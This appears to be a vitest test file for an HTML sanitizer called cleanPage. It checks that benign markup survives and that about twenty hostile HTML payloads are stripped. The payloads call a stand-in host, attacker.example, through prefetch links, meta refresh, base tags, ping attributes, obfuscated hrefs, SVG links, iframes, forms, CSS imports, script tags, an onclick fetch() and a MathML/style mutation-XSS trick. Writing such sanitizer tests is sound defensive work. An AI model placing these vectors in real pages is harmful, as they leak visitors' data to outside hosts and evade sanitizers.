import { expect, it } from "vitest";
import { cleanPage } from "./clean-page.ts";

const clean = (html: string): string => cleanPage(html, (markup) => markup);

it("keeps what shows something", () => {
  const page = '<h1 id="a">Title</h1><table><tbody><tr><td colspan="2">1</td></tr></tbody></table><a href="#a">up</a>';
  expect(clean(page)).toBe(page);
  expect(clean('<img alt="dot" src="data:image/gif;base64,R0lGOD">')).toContain("data:image/gif");
  expect(clean('<svg viewBox="0 0 9 9"><circle r="4"></circle></svg>')).toContain("<circle");
});

it.each([
  '<link rel="dns-prefetch" href="//41.attacker.example">',
  '<link rel="preconnect" href="https://attacker.example">',
  '<link rel="prefetch" href="https://attacker.example/41">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<meta http-equiv="x-dns-prefetch-control" content="on">',
  '<base href="https://attacker.example/">',
  '<a href="https://attacker.example/41" ping="https://attacker.example">x</a>',
  '<a href="//attacker.example">x</a>',
  '<a href="/\\attacker.example">x</a><a href="h\nttps://attacker.example">x</a><a href=" https:attacker.example">x</a>',
  '<svg><a xlink:href="https://attacker.example"><text>x</text></a></svg>',
  '<svg><image href="https://attacker.example/1.png"></image><use href="https://attacker.example#x"></use></svg>',
  '<img src="https://attacker.example/1.png" srcset="https://attacker.example/2.png 2x">',
  '<iframe src="https://attacker.example"></iframe>',
  '<object data="https://attacker.example"></object><embed src="https://attacker.example">',
  '<form action="https://attacker.example"><input name="a"><button formaction="https://attacker.example">x</button></form>',
  '<video src="https://attacker.example" poster="https://attacker.example"></video>',
  '<body background="https://attacker.example"><p style="background:url(https://attacker.example)">x</p>',
  "<style>@import 'https://attacker.example';</style>",
  '<script src="https://attacker.example"></script><p onclick="fetch(\'https://attacker.example\')">x</p>',
  '<math><mtext><table><mglyph><style><img src="https://attacker.example"></style></mglyph></table></mtext></math>',
  '<template><link rel="dns-prefetch" href="//attacker.example"></template>',
])("leaves no address outside in %s", (html) => {
  const cleaned = clean(html);
  expect(cleaned).not.toContain("attacker.example");
  expect(cleaned).not.toMatch(/<(?:link|meta|base|iframe|object|embed|form|input|button|script|style|template|video)/i);
});
